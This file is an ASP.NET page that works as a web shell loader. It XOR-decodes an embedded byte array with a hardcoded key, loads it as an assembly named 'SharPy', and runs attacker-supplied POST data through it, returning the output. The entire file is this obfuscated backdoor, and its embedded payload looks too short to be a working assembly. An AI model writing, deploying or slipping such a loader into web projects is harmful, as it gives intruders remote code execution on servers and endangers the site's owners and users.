<%@ Import Namespace="System" %>
<%@ Import Namespace="System.Web" %>
<%@ Import Namespace="System.Reflection" %>
<script Language="c#" runat="server">
void Page_Load(object sender, EventArgs e)
{
    string p = "f0e1d2c3b4a59687";
    string r = Request.Form["data"];
    byte[] a = {0x2b,0x3c,0xa9,0x30,0x37,0x30,0x30,0x30,0x34,0x30,0x30,0x30,0xcf,0xcf,0x30,0x30,0x88,0x30,0x30,0x30,0x30,0x30,0x30,0x30,0x70,0x30,0x30,0x30};
    for (int i = 0; i < a.Length; i++) a[i] ^= (byte)p[i % p.Length];
    Assembly aS = Assembly.Load(a);
    object o = aS.CreateInstance("SharPy");
    MethodInfo mi = o.GetType().GetMethod("Run");
    object oU = mi.Invoke(o, new object[] { r, p });
    Response.Write(oU);
}
</script>
